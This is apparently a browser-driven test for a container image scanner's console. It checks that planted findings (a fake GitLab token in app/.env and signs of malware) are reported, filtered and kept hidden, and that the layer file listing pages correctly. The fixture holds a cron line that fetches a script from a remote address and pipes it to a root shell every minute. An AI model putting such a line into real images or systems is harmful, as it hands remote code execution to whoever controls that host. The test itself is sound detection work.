import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ADMIN_PASSWORD, startServer } from '../server.ts';
import { buildConsole, launchBrowser, openPage } from './browser.ts';
import { analysed, dpkgStatus, importTracker, OS_RELEASE, pushImage } from './console-data.ts';

test('what is wrong beside vulnerabilities, and the files of a layer, by hand in the console', async (t) => {
  await buildConsole();
  await using server = await startServer();
  await importTracker(server);
  const secret = ['glpat', 'Zk3hXcv7Pq0y1Lr9tUw2'].join('-');
  await pushImage(server, {
    repository: 'shop/web',
    tag: '1',
    layers: [
      { instruction: 'debootstrap', files: [OS_RELEASE, dpkgStatus([['libexpat1', '2.5.0-1', 'expat']])] },
      {
        instruction: 'COPY . /app',
        files: [
          { path: 'app/.env', text: `A=1\nGITLAB_TOKEN=${secret}\n` },
          { path: 'etc/cron.d/update', text: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
          ...Array.from({ length: 60 }, (_, n) => ({ path: `app/data/${String(n).padStart(3, '0')}`, text: 'x' })),
        ],
      },
    ],
  });
  await analysed(server, 'shop/web', '1');
  const browser = await launchBrowser();
  t.after(() => browser.close());
  const { page, complaints } = await openPage(browser, server.url);
  await page.request.post('/api/v1/session', { data: { name: 'admin', password: ADMIN_PASSWORD } });

  await page.goto('/r/shop/web:1');
  await page.getByRole('link', { name: '1 secret that everybody who pulls can read' }).click();
  await page.getByRole('heading', { name: '1 secret' }).waitFor();
  assert.equal(
    await page.getByRole('heading', { name: /of malware/ }).count(),
    0,
    'one kind is shown when it is asked for',
  );
  await page.getByText('app/.env, line 2').waitFor();
  assert.ok(!(await page.content()).includes(secret), 'a secret is never shown');
  await page.getByRole('button', { name: /^Secrets/ }).click();
  await page.getByRole('heading', { name: '2 signs of malware' }).waitFor();
  await page.getByLabel('Filter', { exact: true }).fill('health');
  await page.getByRole('heading', { name: '1 practice to mend' }).waitFor();
  assert.equal(await page.getByRole('heading', { name: '1 secret' }).count(), 0);
  await page.getByLabel('Filter', { exact: true }).fill('gitlab');
  await page.getByRole('link', { name: 'layer 2' }).click();

  await page.getByText('50 files of 62').waitFor();
  await page.getByRole('button', { name: 'Show more' }).click();
  await page.getByText('62 files of 62').waitFor();
  await page.getByLabel('Files whose path begins with').fill('app/data/01');
  await page.getByText('10 files of 62').waitFor();

  assert.deepEqual(complaints, []);
});
